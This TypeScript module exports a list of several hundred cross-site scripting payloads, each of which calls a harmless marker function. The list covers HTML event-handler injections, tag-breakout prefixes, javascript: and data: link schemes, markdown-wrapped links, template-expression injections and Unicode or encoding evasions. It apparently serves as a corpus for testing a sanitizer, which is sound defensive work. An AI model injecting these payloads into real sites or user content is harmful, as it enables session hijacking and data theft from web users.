/**
 * What people type who want a page to run their script: 300 texts and more, from the families that have worked somewhere.
 * Whatever runs calls `pwned()`.
 */
const run = "pwned()";

const handlers = [
  "<img src=x onerror=%>",
  "<img src=x onerror='%'>",
  '<img src="x" onerror="%">',
  "<IMG SRC=x ONERROR=%>",
  "<img/src=x/onerror=%>",
  "<img src=x:x onerror=%//",
  "<svg onload=%>",
  "<svg/onload=%>",
  "<svg><animate onbegin=% attributeName=x dur=1s>",
  "<svg><set onbegin=% attributename=x>",
  "<svg><script>%</script></svg>",
  "<svg><a xlink:href='javascript:%'><text y=1em>x</text></a></svg>",
  "<body onload=%>",
  "<body onpageshow=%>",
  "<video><source onerror=%></video>",
  "<video src=x onerror=%></video>",
  "<audio src=x onerror=%></audio>",
  "<input autofocus onfocus=%>",
  "<select autofocus onfocus=%>",
  "<textarea autofocus onfocus=%>",
  "<button autofocus onfocus=%>x</button>",
  "<details open ontoggle=%>x</details>",
  "<marquee onstart=%>x</marquee>",
  "<iframe src='javascript:%'></iframe>",
  "<iframe srcdoc='<script>parent.%</script>'></iframe>",
  "<iframe onload=%></iframe>",
  "<object data='javascript:%'></object>",
  "<embed src='javascript:%'>",
  "<form action='javascript:%'><button autofocus>x</button></form>",
  "<button formaction='javascript:%' form=x>x</button>",
  "<a href='javascript:%'>x</a>",
  "<math><mtext><table><mglyph><style><img src=x onerror=%>",
  "<math href='javascript:%'>x</math>",
  "<style onload=%></style>",
  "<style>@import 'javascript:%';</style>",
  "<link rel=stylesheet href=x onerror=%>",
  "<meta http-equiv=refresh content='0;url=javascript:%'>",
  "<base href='javascript:%//'>",
  "<template><img src=x onerror=%></template>",
  "<noscript><p title='</noscript><img src=x onerror=%>'></noscript>",
  "<div style='width:expression(%)'>x</div>",
  "<div style='animation:x' onanimationstart=%>x</div><style>@keyframes x{}</style>",
  "<div onpointerrawupdate=%>x</div>",
  "<script>%</script>",
  "<script src='data:text/javascript,%'></script>",
  "<script type=module>%</script>",
  "<ScRiPt>%</sCrIpT>",
  "<scr<script>ipt>%</scr</script>ipt>",
  "<x onclick=% tabindex=1 id=x autofocus onfocus=%>x",
  "<dialog open onclose=%><form method=dialog><button autofocus>x</button></form></dialog>",
].map((text) => text.replaceAll("%", run));

/** What a text is put behind to leave the place that a page puts it in. */
const breakouts = ['"', "'", "`", "</textarea>", "</title>", "</style>", "</script>", "-->", "]]>", '"]'];

const links = [
  "javascript:%",
  "JaVaScRiPt:%",
  " javascript:%",
  "java\tscript:%",
  "java\nscript:%",
  "javascript&colon;%",
  "&#106;avascript:%",
  "\u0001javascript:%",
  "javascript://%0a%",
  "vbscript:%",
  "data:text/html,<script>%</script>",
  "data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+",
  'https://x.example/"onmouseover=%"',
  "https://x.example/'onmouseover=%'",
  "https://x.example/><script>%</script>",
  "http://javascript:%@x.example",
  "mailto:x@x.example?subject=<script>%</script>",
  "view-source:javascript:%",
  "blob:javascript:%",
  "filesystem:javascript:%",
].map((text) => text.replaceAll("%", run));

const inMarkup = ["[x](%)", "![x](%)", "<%>", "[x]: %", "@dao %", "`%`"].flatMap((markup) =>
  links.map((link) => markup.replace("%", link)),
);

const expressions = [
  "{{constructor.constructor('%')()}}",
  ["$", "{%}"].join(""),
  "#{%}",
  "<%= % %>",
  "{{%}}",
  "[[%]]",
  "{%raw%}%{%endraw%}",
  "%{%}",
  "@{%}",
  "__proto__[%]",
].map((text) => text.replaceAll("%", run));

const oddities = [
  "\u202e<script>%</script>",
  "＜script＞%＜/script＞",
  "<script\u2028>%</script>",
  "<script\u00a0>%</script>",
  "<​script>%</script>",
  "<img src=x on\u200derror=%>",
  "&lt;script&gt;%&lt;/script&gt;",
  "%3Cscript%3E%%3C/script%3E",
  "\\u003cscript\\u003e%\\u003c/script\\u003e",
  "+ADw-script+AD4-%+ADw-/script+AD4-",
  "@<img src=x onerror=%>",
  "＠<svg onload=%>",
  "@ดาว<img src=x onerror=%>",
  "ขอให้@ดาว<script>%</script>ช่วย",
  "```\n<script>%</script>\n```",
  "```html\n<img src=x onerror=%>",
  "`<img src=x onerror=%>`",
  "> <img src=x onerror=%>",
  "<a href=https://x.example onclick=%>https://x.example</a>",
  "https://x.example/<img src=x onerror=%>",
].map((text) => text.replaceAll("%", run));

export const payloads: readonly string[] = [
  ...new Set([
    ...handlers,
    ...breakouts.flatMap((breakout) => handlers.slice(0, 14).map((text) => `${breakout}>${text}`)),
    ...links,
    ...inMarkup,
    ...expressions,
    ...oddities,
  ]),
];
